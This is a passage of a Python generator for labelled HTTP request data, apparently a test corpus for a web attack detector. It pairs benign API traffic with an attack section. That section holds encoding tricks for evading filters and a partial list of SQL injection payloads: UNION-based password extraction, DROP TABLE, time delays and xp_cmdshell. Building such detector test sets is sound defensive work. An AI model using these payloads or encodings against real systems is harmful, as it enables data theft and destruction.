     "    cart { id totalQuantity }\n    userErrors { field message }\n  }\n}",
     {"cartId": "gid://shop/Cart/c1-" + hexid(24, "cart"), "lines": [{"merchandiseId": "gid://shop/ProductVariant/4412", "quantity": 2}]}),
    ("Search", "query Search($q: String!, $first: Int = 20) {\n  search(query: $q, first: $first) {\n    edges { node { __typename ... on Product { title handle } ... on Article { title } } }\n  }\n}",
     {"q": "men's rain jacket"}),
    ("Viewer", "query Viewer { viewer { login name avatarUrl(size: 64) organizations(first: 10) { nodes { login } } } }", {}),
    ("RecentIssues", 'query RecentIssues {\n  repository(owner: "acme", name: "shop") {\n    issues(last: 20, states: CLOSED, orderBy: {field: UPDATED_AT, direction: DESC}) {\n'
     "      edges { node { title url labels(first: 5) { edges { node { name } } } } }\n    }\n  }\n}", {}),
    ("UpdateProfile", "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { profile { displayName bio } errors { path message } } }",
     {"input": {"displayName": "Zoë D'Souza", "bio": "Full-stack dev ❤️ Rust & Python. Tea > coffee."}}),
    ("CreateComment", "mutation CreateComment($postId: ID!, $body: String!) { createComment(postId: $postId, body: $body) { comment { id createdAt } } }",
     {"postId": "P_8812", "body": "Nice! In our setup we ended up using:\n\n```ts\nconst client = new ApolloClient({ uri: '/graphql', cache: new InMemoryCache() });\n```"}),
    ("OrdersPage", "fragment Money on MoneyV2 { amount currencyCode }\nquery OrdersPage($after: String) {\n  customer { orders(first: 10, after: $after, sortKey: PROCESSED_AT, reverse: true) {\n"
     "    pageInfo { hasNextPage endCursor }\n    nodes { name processedAt totalPrice { ...Money } }\n  } }\n}", {"after": "eyJsYXN0X2lkIjo0NDEyLCJsYXN0X3ZhbHVlIjoiMjAyNC0wMy0wMSJ9"}),
    ("IntrospectionQuery", "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { ...FullType }\n  }\n}\n"
     "fragment FullType on __Type {\n  kind\n  name\n  fields(includeDeprecated: true) { name args { name } type { name kind } }\n}", {}),
    ("Aliases", "query Aliases {\n  small: product(handle: \"mug-8oz\") { title }\n  large: product(handle: \"mug-11oz\") { title }\n}", {}),
    ("SetShipping", "mutation SetShipping($a: MailingAddressInput!) { checkoutShippingAddressUpdateV2(shippingAddress: $a, checkoutId: \"c-1\") { checkoutUserErrors { code field message } } }",
     {"a": {"address1": "14, rue de l'Église", "city": "Lyon", "zip": "69002", "country": "France", "firstName": "Zoë", "lastName": "Lefèvre"}}),
    ("Translate", "query Translate($text: String!, $to: Lang!) { translate(text: $text, to: $to) }", {"text": "今日はいい天気ですね", "to": "EN"}),
]


def graphql():
    out = []
    for i, (op, query, variables) in enumerate(GRAPHQL):
        doc = {"operationName": op, "query": query, "variables": variables}
        out.append(benign("graphql-%03d" % i, "POST", "/graphql", headers_for(i + 61, "browser" if i % 2 else "client"),
                          jdump(doc, ascii_only=bool(i % 3 == 0)), JSON, note="GraphQL " + op, placement="json"))
    # Apollo automatic persisted query (GET)
    ext = json.dumps({"persistedQuery": {"version": 1, "sha256Hash": hashlib.sha256(b"query Viewer").hexdigest()}}, separators=(",", ":"))
    out.append(benign("graphql-apq", "GET", "/graphql?" + qs([("operationName", "Viewer"), ("variables", "{}"), ("extensions", ext)]),
                      browser(73), note="GraphQL persisted query GET", placement="query", encoding="url"))
    out.append(benign("graphql-getq", "GET", "/graphql?" + qs([("query", '{ product(handle: "mug-11oz") { title priceRange { minVariantPrice { amount } } } }')]),
                      client(74), note="GraphQL query in GET", placement="query", encoding="url"))
    return out


def webhooks():
    out = []
    stripe = {"id": "evt_1OqZ2hLkdIwHu7ixAbCdEf", "object": "event", "api_version": "2023-10-16", "created": 1709633521, "type": "charge.succeeded",
              "data": {"object": {"id": "ch_3OqZ2hLkdIwHu7ix0", "amount": 4999, "currency": "eur", "description": "Order #10045 – 2× Ceramic Mug (11 oz)",
                                  "billing_details": {"name": "Zoë D'Souza", "address": {"line1": "14, rue de l'Église", "city": "Lyon", "postal_code": "69002", "country": "FR"}},
                                  "metadata": {"order_id": "10045"}, "receipt_url": "https://pay.stripe.com/receipts/payment/CAcaFwoVYWNjdF8xTnYwRkdROVJLSGdDVmRLKPGm?s=ap"}},
              "livemode": True, "pending_webhooks": 1, "request": {"id": "req_8Hb1ZOy0lM8aGz", "idempotency_key": uid("idem", "stripe")}}
    out.append(benign("hook-stripe", "POST", "/webhooks/stripe", [["User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"], ["Accept", "*/*; q=0.5, application/xml"],
                      ["Stripe-Signature", "t=1709633521,v1=%s,v0=%s" % (hexid(64, "v1"), hexid(64, "v0"))]], jdump(stripe, True), "application/json; charset=utf-8",
                      note="Stripe webhook", placement="json"))
    push = {"ref": "refs/heads/main", "before": hexid(40, "b"), "after": hexid(40, "a"),
            "repository": {"full_name": "acme/shop", "html_url": "https://github.com/acme/shop"},
            "pusher": {"name": "priya", "email": "priya@acme.example"},
            "commits": [{"id": hexid(40, "c1"), "message": "Fix: escape apostrophes in CSV export (#212)\n\nNames like O'Brien broke the quoting.", "author": {"name": "Tom O'Neil"}},
                        {"id": hexid(40, "c2"), "message": "Revert \"Drop legacy_status column\"\n\nThis reverts commit 3f2a9c1; the reports job still reads it.", "author": {"name": "Priya"}},
                        {"id": hexid(40, "c3"), "message": "chore(deps): bump axios from 1.6.5 to 1.6.7", "author": {"name": "dependabot[bot]"}}]}
    out.append(benign("hook-github", "POST", "/webhooks/github", [["User-Agent", "GitHub-Hookshot/6f1a2b3"], ["Accept", "*/*"], ["X-GitHub-Event", "push"],
                      ["X-GitHub-Delivery", uid("gh")], ["X-Hub-Signature-256", "sha256=" + hexid(64, "gh")]], jdump(push, True), JSON, note="GitHub push webhook", placement="json"))
    shop = {"id": 5420139102321, "email": "siobhan.osullivan@example.ie", "note": "Please gift wrap – it's for my mum's 60th!",
            "total_price": "89.90", "currency": "EUR", "line_items": [{"title": "Ceramic Mug 11 oz", "quantity": 2, "properties": [{"name": "Engraving", "value": "Mum ♥ 60"}]}],
            "shipping_address": {"address1": "12 O'Connell Street Upper", "city": "Dublin", "zip": "D01 F5P2", "country_code": "IE"}}
    out.append(benign("hook-shopify", "POST", "/webhooks/shopify/orders-create", [["User-Agent", "Shopify-Captain-Hook"], ["Accept", "*/*"], ["X-Shopify-Topic", "orders/create"],
                      ["X-Shopify-Shop-Domain", "acme-store.myshopify.com"], ["X-Shopify-Hmac-Sha256", base64.b64encode(hashlib.sha256(b"shop").digest()).decode()]],
                      jdump(shop, True), JSON, note="Shopify order webhook", placement="json"))
    mail = [{"event": "delivered", "recipient": "jane.doe@example.com", "timestamp": 1709633521.42, "message": {"headers": {"subject": "Your order #10045 has shipped! 📦", "from": "Acme Shop <orders@acme.example>"}}},
            {"event": "failed", "severity": "permanent", "recipient": "bounce@nowhere.example", "delivery-status": {"code": 550, "message": "5.1.1 The email account that you tried to reach does not exist."}}]
    out.append(benign("hook-mail", "POST", "/webhooks/mail-events", [["User-Agent", "mailgun/treq-22.2.0"], ["Accept", "*/*"]], jdump(mail, True), JSON,
                      note="mail delivery events webhook", placement="json"))
    pd = {"event": {"id": "01DEN4HPBQAA2TE8N0NZWCGR2S", "event_type": "incident.triggered", "occurred_at": "2024-03-05T10:12:01.000Z",
                    "data": {"title": "CPU > 90% on api-7f9c (prod) for 5 min", "urgency": "high", "html_url": "https://acme.pagerduty.com/incidents/PGR0VU2"}}}
    out.append(benign("hook-pagerduty", "POST", "/webhooks/incidents", [["User-Agent", "PagerDuty-Webhook/V3.0"], ["Accept", "*/*"], ["X-PagerDuty-Signature", "v1=" + hexid(64, "pd")]],
                      jdump(pd), JSON, note="incident webhook", placement="json"))
    return out


def telemetry():
    out = []
    err = {"message": "TypeError: Cannot read properties of undefined (reading 'map')",
           "stack": "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (https://shop.example.com/static/js/main.4f3a9c.js:2:10452)\n"
                    "    at renderWithHooks (https://shop.example.com/static/js/vendor.91b2.js:2:71220)\n    at updateFunctionComponent (https://shop.example.com/static/js/vendor.91b2.js:2:73891)",
           "url": "https://shop.example.com/products?category=shoes&sort=price_asc&page=2", "release": "web@2024.03.05-1",
           "userAgent": CHROME_WIN}
    out.append(benign("tele-error", "POST", "/api/v1/client-errors", browser(80), jdump(err), JSON, note="front-end error report", placement="json"))
    csp = {"csp-report": {"document-uri": "https://shop.example.com/checkout", "referrer": "https://shop.example.com/cart", "violated-directive": "script-src-elem",
                          "effective-directive": "script-src-elem", "original-policy": "default-src 'self'; script-src 'self' https://js.stripe.com; img-src 'self' data: https:; report-uri /csp-report",
                          "disposition": "enforce", "blocked-uri": "https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ", "line-number": 12, "source-file": "https://shop.example.com/checkout", "status-code": 200, "script-sample": ""}}
    out.append(benign("tele-csp", "POST", "/csp-report", [["User-Agent", FIREFOX], ["Accept", "*/*"], ["Origin", "https://shop.example.com"]], jdump(csp), "application/csp-report",
                      note="CSP violation report", placement="json"))
    ev = {"event": "add_to_cart", "anonymousId": uid("anon", 3), "properties": {"sku": "MUG-11OZ-BLU", "price": 19.99, "currency": "EUR", "quantity": 2},
          "context": {"page": {"url": "https://shop.example.com/p/ceramic-mug-11oz?variant=blue", "referrer": "https://www.google.com/", "title": "Ceramic Mug 11 oz | Acme Shop",
                               "search": "?variant=blue"}, "locale": "fr-FR", "timezone": "Europe/Paris"}}
    out.append(benign("tele-track", "POST", "/api/v1/t", browser(81), jdump(ev), "text/plain;charset=UTF-8", note="analytics beacon (sendBeacon text/plain)", placement="body"))
    rum = {"name": "LCP", "value": 2350.4, "rating": "needs-improvement", "id": "v3-1709633521-8812", "navigationType": "navigate",
           "attribution": {"element": "#hero > img.banner", "url": "https://cdn.example.com/img/hero@2x.webp"}}
    out.append(benign("tele-rum", "POST", "/api/v1/vitals", browser(82), jdump(rum), JSON, note="web vitals beacon", placement="json"))
    logs = {"lines": ['127.0.0.1 - - [05/Mar/2024:10:12:01 +0000] "GET /products?page=2 HTTP/1.1" 200 5120 "https://shop.example.com/" "Mozilla/5.0 (Macintosh)"',
                      '10.0.3.7 - - [05/Mar/2024:10:12:02 +0000] "POST /api/v1/carts HTTP/1.1" 201 311 "-" "okhttp/4.12.0"'], "source": "nginx", "host": "web-3"}
    out.append(benign("tele-logs", "POST", "/api/v1/ingest/logs", client(83), jdump(logs, True), JSON, note="log shipping", placement="json"))
    metrics = "http_requests_total{method=\"post\",code=\"200\"} 1027 1709633521000\nhttp_requests_total{method=\"post\",code=\"400\"} 3 1709633521000\n"
    out.append(benign("tele-metrics", "POST", "/api/v1/metrics/import", client(84), metrics.encode(), "text/plain; version=0.0.4", note="metrics exposition push", placement="body"))
    return out


def auth_and_links():
    out = []
    t = jwt("auth0|65e6f0a1b2c3d4e5f6a7b8c9", i=90)
    out.append(benign("auth-bearer", "GET", "/api/v1/users/me/permissions", [["User-Agent", SDK_UAS[1]], ["Accept", "application/json"], ["Authorization", "Bearer " + t]],
                      note="JWT bearer", placement="header"))
    out.append(benign("auth-cookie-jwt", "GET", "/api/v1/session", browser(91) + [["Cookie", "access_token=" + jwt("user-8812", i=91) + "; refresh=" + b64u(hexid(48, "r"))]],
                      note="JWT in cookie", placement="cookie"))
    out.append(benign("auth-query-token", "GET", "/api/v1/exports/download?token=" + jwt("export-17", scope="exports:read", i=92), client(92, auth=False),
                      note="signed download link (JWT in query)", placement="query"))
    out.append(benign("auth-basic", "GET", "/api/v1/reports/daily.csv", [["User-Agent", "curl/8.5.0"], ["Accept", "*/*"],
                      ["Authorization", "Basic " + base64.b64encode(b"reports@acme.example:S3cr3t!P@ss=word").decode()]], note="basic auth", placement="header"))
    out.append(benign("auth-presigned", "GET", "/api/v1/uploads/2024/03/invoice-10045.pdf?" + qs([
        ("X-Amz-Algorithm", "AWS4-HMAC-SHA256"), ("X-Amz-Credential", "AKIAIOSFODNN7EXAMPLE/20240305/eu-west-1/s3/aws4_request"),
        ("X-Amz-Date", "20240305T101201Z"), ("X-Amz-Expires", "3600"), ("X-Amz-SignedHeaders", "host"), ("X-Amz-Signature", hexid(64, "s3"))]),
        client(93, auth=False), note="presigned URL", placement="query", encoding="url"))
    out.append(benign("auth-hmac", "POST", "/api/v1/partner/orders/sync", client(94, auth=False) + [
        ["Authorization", 'HMAC-SHA256 Credential=partner-17, SignedHeaders=host;x-date, Signature=' + hexid(64, "hmac")],
        ["X-Date", "20240305T101201Z"], ["Digest", "SHA-256=" + base64.b64encode(hashlib.sha256(b"{}").digest()).decode()]],
        jdump({"since": "2024-03-04T00:00:00Z", "cursor": None}, True), JSON, note="HMAC-signed partner request", placement="header"))
    out.append(benign("auth-saml-redirect", "GET", "/sso/saml/login?" + qs([("SAMLRequest", base64.b64encode(hashlib.sha512(b"authnrequest").digest() * 3).decode()),
                      ("RelayState", "/dashboard?tab=billing&range=30d")], form_enc), browser(95, ajax=False), note="SAML redirect binding", placement="query", encoding="plus"))
    links = [
        ("/oauth/authorize", [("response_type", "code"), ("client_id", "s6BhdRkqt3"), ("redirect_uri", "https://app.example.com/callback"),
                              ("scope", "openid profile email offline_access"), ("state", "af0ifjsldkj"), ("code_challenge", "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"),
                              ("code_challenge_method", "S256"), ("nonce", "n-0S6_WzA2Mj")], "OAuth authorize"),
        ("/login", [("next", "/dashboard?tab=billing&range=30d")], "login with next"),
        ("/api/v1/link-preview", [("url", "https://www.nytimes.com/2024/03/05/technology/ai-chips.html?smid=nytcore-ios-share&referringSource=articleShare")], "link preview"),
        ("/r", [("u", "https://shop.example.com/p/mug?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale&utm_content=hero"), ("cid", "8812")], "click tracking"),
        ("/api/v1/share", [("url", "https://shop.example.com/p/ceramic-mug-11oz"), ("text", "Check this out! 50% off today only 😱")], "share link"),
        ("/api/v1/oembed", [("url", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PL9tY0BWXOZFuFEG_GtOBZ8-8wbkH-NVAr"), ("format", "json"), ("maxwidth", "640")], "oEmbed"),
        ("/api/v1/images/proxy", [("src", "https://cdn.shopify.example/s/files/1/0001/products/mug.jpg?v=1709251200"), ("w", "400"), ("fit", "cover")], "image proxy"),
        ("/api/v1/unsubscribe", [("email", "sam+news@example.com"), ("list", "weekly"), ("sig", hexid(40, "unsub"))], "unsubscribe link"),
        ("/api/v1/calendar/ics", [("url", "webcal://calendar.example.com/team/ops.ics?token=" + hexid(16, "ics"))], "calendar subscription"),
        ("/logout", [("post_logout_redirect_uri", "https://shop.example.com/?logged_out=1"), ("id_token_hint", jwt("user-8812", i=96))], "OIDC logout"),
        ("/api/v1/qr", [("data", "WIFI:T:WPA;S:Acme Guest;P:welcome-2024!;;"), ("size", "256")], "QR code generator"),
        ("/api/v1/maps/static", [("center", "40.714728,-73.998672"), ("zoom", "12"), ("size", "400x400"), ("markers", "color:red|label:S|40.702147,-74.015794")], "static map"),
        ("/api/v1/feeds/import", [("url", "https://blog.example.com/feed.xml?category=release-notes&format=atom")], "feed import"),
    ]
    for i, (path, pairs, note) in enumerate(links):
        enc = js_enc if i % 2 else form_enc
        out.append(benign("link-%03d" % i, "GET", path + "?" + qs(pairs, enc), browser(100 + i, ajax=bool(i % 3)),
                          note=note, placement="query", encoding="url" if enc is js_enc else "plus"))
    hook = {"url": "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX", "events": ["order.paid", "order.refunded"],
            "description": "Ops channel – paid & refunded orders"}
    out.append(benign("link-webhook-config", "POST", "/api/v1/webhook-endpoints", client(113, idem=True), jdump(hook, True), JSON,
                      note="webhook endpoint config", placement="json"))
    # browser page loads with search-engine referers
    refs = ["https://www.google.com/search?q=men%27s+rain+jacket+waterproof&oq=men%27s+rain&sourceid=chrome&ie=UTF-8",
            "https://www.bing.com/search?q=cast+iron+skillet+12%22&form=QBLH", "https://duckduckgo.com/?q=ben+%26+jerry%27s+near+me&ia=web",
            "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fp%2Fmug&h=AT0" + hexid(20, "fb"),
            "https://t.co/" + hexid(10, "tco"), "android-app://com.google.android.gm/"]
    for i, ref in enumerate(refs):
        out.append(benign("referer-%03d" % i, "GET", "/api/v1/pages/home?ab=%s" % ["a", "b"][i % 2], browser(120 + i, referer=ref),
                          note="page API call with search referer", placement="header"))
    return out


def misc():
    out = []
    out.append(benign("misc-patch-me", "PATCH", "/api/v1/users/me", browser(130), jdump({"displayName": "Zoë D'Souza", "bio": "Full-stack dev. ❤️ Rust & Python. Opinions my own.", "timezone": "Europe/Paris"}),
                      JSON, note="profile PATCH", placement="json"))
    out.append(benign("misc-delete-line", "DELETE", "/api/v1/carts/%s/items/MUG-11OZ-BLU" % uid("cart", 3), browser(131), note="remove cart line", placement="path"))
    out.append(benign("misc-delete-token", "DELETE", "/api/v1/tokens/tok_" + hexid(16, "tok"), client(132), note="revoke token", placement="path"))
    out.append(benign("misc-settings", "PUT", "/api/v1/settings/notifications", browser(133), jdump({"email": {"orderShipped": True, "marketing": False},
                      "push": {"priceDrops": True}, "quietHours": {"from": "22:00", "to": "07:30"}}), JSON, note="settings PUT", placement="json"))
    out.append(benign("misc-merge-patch", "PATCH", "/api/v1/customers/%s" % uid("cust", 9), client(134), jdump({"phone": "+33 6 12 34 56 78", "company": "Dupont & Fils SARL", "notes": None}, True),
                      "application/merge-patch+json", note="merge-patch", placement="json"))
    out.append(benign("misc-json-patch", "PATCH", "/api/v1/customers/%s/address" % uid("cust", 10), client(135),
                      jdump([{"op": "replace", "path": "/line1", "value": "12 O'Connell St"}, {"op": "remove", "path": "/line2"},
                             {"op": "add", "path": "/instructions", "value": "Side door, 2nd bell"}], True),
                      "application/json-patch+json", note="JSON patch", placement="json"))
    csvdoc = 'sku,title,price\r\nMUG-11OZ-BLU,"Ceramic Mug, 11 oz",19.99\r\nSKL-CI-12IN,"Cast-iron skillet 12""",49.00\r\nBOOT-KIDS-5T,Kids\' rain boots,34.50\r\n'
    out.append(benign("misc-csv-put", "PUT", "/api/v1/catalog/bulk", client(136), csvdoc.encode(), "text/csv", note="CSV bulk upload", placement="body"))
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n<PurchaseOrder number="PO-4471-B" date="2024-03-05">\n  <Buyer>Smith &amp; Sons Ltd.</Buyer>\n'
           '  <ShipTo><Name>Bob&apos;s Bait &amp; Tackle</Name><Street>Route 9, Mile Marker 14 1/2</Street><City>Lake George</City></ShipTo>\n'
           '  <Line sku="PLY-BIRCH-34" qty="12">Birch plywood 3/4&quot; (4\' x 8\')</Line>\n  <Note><![CDATA[Deliver before noon & call ahead]]></Note>\n</PurchaseOrder>\n')
    out.append(benign("misc-xml-po", "POST", "/api/v1/edi/purchase-orders", [["User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.10)"], ["Accept", "application/xml"],
                      ["Authorization", "Bearer " + jwt("edi-partner", i=137)]], xml.encode(), "application/xml", note="XML purchase order", placement="body"))
    soap = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
            '<GetQuote xmlns="urn:example:shipping"><From>69002</From><To>D01 F5P2</To><WeightKg>2.5</WeightKg></GetQuote></soap:Body></soap:Envelope>')
    out.append(benign("misc-soap", "POST", "/soap/shipping", [["User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"],
                      ["SOAPAction", '"urn:example:shipping/GetQuote"']], soap.encode(), "text/xml; charset=utf-8", note="SOAP call", placement="body"))
    out.append(benign("misc-text-note", "PUT", "/api/v1/notes/%s/content" % uid("note", 1), browser(138), (
        "Shopping list:\n- 2 lbs tomatoes\n- eggs (free-range!)\n- 1/2 gal milk\n- Ben & Jerry's (Cherry Garcia)\n\nTODO: call plumber re: leak under sink @ 555-0134\n").encode(),
        "text/plain; charset=utf-8", note="plain-text note", placement="body"))
    out.append(benign("misc-batch", "POST", "/api/v1/batch", client(139), jdump({"requests": [
        {"method": "GET", "path": "/v1/products?search=men%27s%20shoes"}, {"method": "POST", "path": "/v1/carts", "body": {"sku": "MUG-11OZ-BLU", "qty": 1}},
        {"method": "DELETE", "path": "/v1/carts/c1/items/old-sku"}]}, True), JSON, note="batch API", placement="json"))
    out.append(benign("misc-ndjson", "POST", "/api/v1/bulk/events", client(140), (
        '{"index":{"_id":"1"}}\n{"user":"zoe","msg":"logged in from Lyon"}\n{"index":{"_id":"2"}}\n{"user":"tom","msg":"changed password"}\n').encode(),
        "application/x-ndjson", note="NDJSON bulk", placement="body"))
    out.append(benign("misc-empty-post", "POST", "/api/v1/carts/%s/checkout" % uid("cart", 4), browser(141), b"", JSON, note="empty-body POST", placement="none"))
    out.append(benign("misc-formula", "POST", "/api/v1/sheets/%s/cells" % uid("sheet", 1), browser(142), jdump({"cells": [
        {"ref": "D2", "formula": "=SUMIF(B:B,\"paid\",C:C)"}, {"ref": "E2", "formula": "=IF(C2>100,\"big\",\"small\")"}, {"ref": "F2", "value": "Smith & Co"}]}), JSON,
        note="spreadsheet formulas", placement="json"))
    out.append(benign("misc-emoji-path", "GET", "/api/v1/search/hashtags/%23%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3", client(143), note="hashtag in path (#ラーメン)", placement="path"))
    out.append(benign("misc-xff", "GET", "/api/v1/geo/whoami", client(144) + [["X-Forwarded-For", "203.0.113.195, 70.41.3.18, 150.172.238.178"], ["X-Forwarded-Proto", "https"],
                      ["Forwarded", 'for=203.0.113.195;proto=https;by="[2001:db8::17]"']], note="proxy headers", placement="header"))
    out.append(benign("misc-accept", "GET", "/api/v1/reports/monthly", client(145) + [["Accept", "text/csv;q=0.9, application/vnd.ms-excel;q=0.8, */*;q=0.1"],
                      ["Accept-Language", "de-CH, de;q=0.9, fr;q=0.8, en;q=0.7, *;q=0.5"], ["Prefer", "return=minimal; respond-async"]], note="content negotiation", placement="header"))
    out.append(benign("misc-long-search", "GET", "/api/v1/products/search?" + qs([("q", "waterproof hiking boots women size 8 wide brown leather vibram sole ankle support")] +
                      [("facet", f) for f in ("brand", "size", "color", "width", "material", "price")]), browser(146), note="long search query", placement="query", encoding="url"))
    return out


def benign_items():
    return (searches() + listings() + resources() + orders() + tickets() + crm_notes() + chats() + code_reviews() + docs()
            + recipes() + products() + reviews() + forms() + graphql() + webhooks() + telemetry() + auth_and_links() + misc())


# === attacks ==========================================================================
# Payloads as public payload lists and attack tools spell them, placed where real
# attackers put them. Each entry: (payload, where, encoding[, trick]).
#   where: ("q", path, param)      query parameter (other realistic params added)
#          ("p", template)         path segment: template.format(encoded payload)
#          ("h", name)             request header (raw unless the encoding says otherwise)
#          ("c", name)             cookie
#          ("j", path, field)      JSON body field (field may be a dotted path)
#          ("f", path, field)      form body field
#          ("raw", method, target) a hand-built request (ProtocolViolation), see protocol()
#   encoding: url (encodeURIComponent-like, everything reserved escaped), min (the
#   minimal escaping attack tools use: quotes, parentheses, commas left raw), plus (form
#   encoding), double (URL-encoded twice), pctu (IIS %uXXXX), html (HTML entities, then
#   the placement's transport encoding), jsonu (\uXXXX escapes inside a JSON string),
#   json (plain JSON string), raw (already as on the wire / header value as is).

ATTACKER_UAS = [FIREFOX, "curl/8.4.0", "python-requests/2.31.0", CHROME_WIN, "Go-http-client/1.1", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"]


def attacker(i):
    ua = ATTACKER_UAS[i % len(ATTACKER_UAS)]
    h = [["User-Agent", ua], ["Accept", "*/*" if "/" in ua.split(" ")[0] and not ua.startswith("Mozilla") else "application/json, text/plain, */*"]]
    if ua.startswith("Mozilla"):
        h += [["Accept-Language", "en-US,en;q=0.5"], ["Cookie", "session=" + hexid(40, "atk", i)]]
    return h


def pctu(s):
    return "".join(c if c.isalnum() or c in "-_." else "%%u%04X" % ord(c) for c in s)


def html_ent(s, hexa=False):
    return "".join(("&#x%x;" % ord(c) if hexa else "&#%d;" % ord(c)) if not (c.isalnum() or c == " ") else c for c in s)


def jsonu(s):
    return "".join(c if c.isalnum() or c == " " else "\\u%04x" % ord(c) for c in s)


def encv(v, enc):
    if enc == "url":
        return quote(v, safe="")
    if enc == "min":
        return quote(v, safe="'()*,;:/=!$@")
    if enc == "plus":
        return quote_plus(v, safe="")
    if enc == "double":
        return quote(quote(v, safe=""), safe="")
    if enc == "pctu":
        return pctu(v)
    if enc == "html":
        return quote(html_ent(v), safe="")
    if enc == "htmlx":
        return quote(html_ent(v, True), safe="")
    if enc == "raw":
        return v
    raise ValueError(enc)


QUERY_CONTEXT = {
    "/api/v1/products": [("page", "1"), ("per_page", "24")],
    "/api/v1/products/search": [("sort", "relevance")],
    "/api/v1/users": [("fields", "id,name")],
    "/api/v1/search": [("type", "all")],
}


def set_field(doc, dotted, value):
    parts = dotted.split(".")
    for p in parts[:-1]:
        doc = doc.setdefault(p, {})
    doc[parts[-1]] = value


JSON_CONTEXT = {
    "/api/v1/auth/login": {"password": "hunter2", "remember": True},
    "/api/v1/comments": {"postId": 8812},
    "/api/v1/users/me": {"timezone": "UTC"},
    "/api/v1/tools/ping": {"count": 4},
    "/api/v1/reports/run": {"format": "csv"},
    "/api/v1/tickets": {"body": "It does not work, see title.", "priority": "high", "category": "bug"},
}


def attack(cls, n, payload, where, enc="url", trick=None, note=None):
    kind = where[0]
    h = attacker(n)
    method, path, body, ctype = "GET", "/api/v1/products", None, None
    label = enc + ("+" + trick if trick else "")
    if kind == "q":
        _, p, param = where
        pairs = QUERY_CONTEXT.get(p, [])
        path = p + "?" + "&".join(["%s=%s" % (quote(param, safe="[]"), encv(payload, enc))] + ["%s=%s" % kv for kv in pairs])
        placement = "query"
    elif kind == "p":
        path = where[1].format(encv(payload, enc))
        placement = "path"
    elif kind == "h":
        name = where[1]
        h = [x for x in h if x[0].lower() != name.lower()]
        h.append([name, payload if enc == "raw" else encv(payload, enc)])
        path = where[2] if len(where) > 2 else "/api/v1/catalog/featured"
        placement = "header:" + name
    elif kind == "c":
        h = [x for x in h if x[0] != "Cookie"]
        h.append(["Cookie", "%s=%s; _ga=GA1.1.%d.1709251200" % (where[1], encv(payload, enc), 1000000 + n)])
        path = where[2] if len(where) > 2 else "/api/v1/users/me"
        placement = "cookie"
    elif kind == "j":
        _, path, field = where
        method = "PATCH" if path == "/api/v1/users/me" else "POST"
        doc = json.loads(json.dumps(JSON_CONTEXT.get(path, {})))
        if enc == "jsonu":
            set_field(doc, field, "@@PAYLOAD@@")
            body = json.dumps(doc).replace('"@@PAYLOAD@@"', '"%s"' % jsonu(payload)).encode()
        else:
            set_field(doc, field, html_ent(payload) if enc == "html" else payload)
            body = json.dumps(doc).encode()
        ctype = JSON
        placement = "json"
    elif kind == "f":
        _, path, field = where
        method = "POST"
        others = {"/login": [("password", "hunter2")], "/contact": [("email", "a@b.example"), ("subject", "hi")]}.get(path, [])
        value = html_ent(payload) if enc == "html" else payload
        body = ("%s=%s" % (quote_plus(field), quote_plus(value, safe="") if enc != "double" else encv(payload, "double"))).encode()
        body += b"".join(("&%s=%s" % (k, quote_plus(v))).encode() for k, v in others)
        ctype = FORM
        placement = "form"
    elif kind == "raw":
        method, path = where[1], payload
        placement = "path"
    else:
        raise ValueError(where)
    return item("h-a-%s-%03d" % (SHORT[cls], n), "attack", cls, method, path, h, body, ctype,
                note=note or "%s in %s (%s)" % (payload, placement, label), placement=placement, encoding=label)


SHORT = {"SqlInjection": "sqli", "CrossSiteScripting": "xss", "PathTraversal": "trav",
         "CommandInjection": "cmdi", "ScannerDetection": "scan", "ProtocolViolation": "proto"}

Q = lambda p, k: ("q", p, k)  # noqa: E731

SQLI = [
    ("' OR '1'='1", Q("/api/v1/users/lookup", "username"), "url"),
    ("' OR 1=1-- -", ("f", "/login", "username"), "plus"),
    ("admin'--", ("j", "/api/v1/auth/login", "username"), "json"),
    ("1' AND SLEEP(5)#", Q("/api/v1/products", "id"), "url"),
    ("1 UNION SELECT NULL,NULL,NULL--", Q("/api/v1/products", "category_id"), "min"),
    ("' UNION SELECT username,password FROM users--", Q("/api/v1/products/search", "q"), "plus"),
    ("1; DROP TABLE users--", ("p", "/api/v1/invoices/{}"), "url"),
    ("1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -", Q("/api/v1/products", "id"), "url"),
    ("1 AND 1=CONVERT(int,(SELECT @@version))", Q("/api/v1/articles", "page"), "url"),
    ("'; WAITFOR DELAY '0:0:5'--", ("c", "session"), "url"),
    ("1' ORDER BY 10-- -", Q("/api/v1/products", "sort"), "url"),
    ("1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))", Q("/api/v1/news", "id"), "min"),
    ("1' || pg_sleep(5)--", ("j", "/api/v1/reports/run", "filter.customerId"), "json"),
    ("-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -", Q("/api/v1/products", "id"), "url"),
    ("1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7171787671,(SELECT (ELT(5431=5431,1))),0x716a767a71,0x78))s), 8446744073709551610, 8446744073709551610)))",
     Q("/api/v1/products", "id"), "url"),
    ("1) AND 5678=5678 AND (9012=9012", Q("/api/v1/categories", "parent"), "min"),
    ('" OR ""="', ("f", "/login", "password"), "plus"),
    ("1.2.3.4' AND SLEEP(5)-- -", ("h", "X-Forwarded-For"), "raw"),
    ("';EXEC xp_cmdshell 'dir'--", Q("/api/v1/users", "name"), "url"),
    ("1;SELECT pg_sleep(10)--", Q("/api/v1/exports/orders", "from_id"), "url"),
